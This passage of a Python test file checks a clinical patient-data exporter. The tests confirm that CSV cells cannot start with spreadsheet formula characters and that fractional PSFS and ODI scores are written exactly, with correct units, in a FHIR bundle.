        assert "'" + text in written
    assert notes[5] in written  # umlauts and quotes as they are
    assert 'Knee hurts, "a bit", today' in written
    for name, text in export.csv_files(data).items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)


async def test_a_fractional_score_is_exported_exactly_not_rounded_to_an_integer(db: Database, clock: FakeClock) -> None:
    # The PSFS is the mean of its activities (3, 5 and 6: 4.7); the ODI is a percentage (42.2 %).
    patient, _ = await make_patient(db, clock, alias="PSFS-0001", surgery_date=date(2026, 5, 20))
    assert patient.id is not None
    t0 = clock.now()
    async with db.session() as session:
        for qid, answers, score in (
            ("psfs", [("activity1", 3), ("activity2", 5), ("activity3", 6)], 4.7),
            ("psfs", [("activity1", 4), ("activity2", 5)], 4.5),  # round(4.5) is 4
            ("odi", [("walking", 2)], 42.2),
        ):
            row = CheckIn(
                patient_id=patient.id,
                questionnaire_id=qid,
                status="complete",
                started_at=t0 - timedelta(hours=2),
                completed_at=t0 - timedelta(hours=1),
                score=score,
            )
            session.add(row)
            await session.flush()
            for item, value in answers:
                session.add(
                    Answer(checkin_id=row.id or 0, patient_id=patient.id, item_id=item, value=value, answered_at=t0)
                )
        await session.commit()
        data = await export.collect(session, clock.now())
    by_type = validate_bundle(export.fhir_bundle(data, CONTENT, clock.now()))
    scores = sorted(
        (o["code"]["coding"][0]["code"], o.get("valueQuantity", {}).get("value", o.get("valueInteger")))
        for o in by_type["Observation"]
        if o["code"]["coding"][0]["code"] in ("score-psfs", "score-odi")
    )
    assert scores == [("score-odi", 42.2), ("score-psfs", 4.5), ("score-psfs", 4.7)]
    for o in by_type["Observation"]:
        if o["code"]["coding"][0]["code"] == "score-psfs":
            unit = {k: v for k, v in o["valueQuantity"].items() if k != "value"}
            assert unit == {"unit": "{score}", "system": "http://unitsofmeasure.org", "code": "{score}"}
    # A clinic's licensed ODI (scoring "percent") is a percentage.
    odi = SimpleNamespace(questionnaires={"odi": SimpleNamespace(scoring="percent")})
    assert export._score_value(odi, "odi", 42.2)["valueQuantity"]["unit"] == "%"  # type: ignore[arg-type]
    assert export._score_value(odi, "odi", 40.0) == {"valueInteger": 40}  # type: ignore[arg-type]
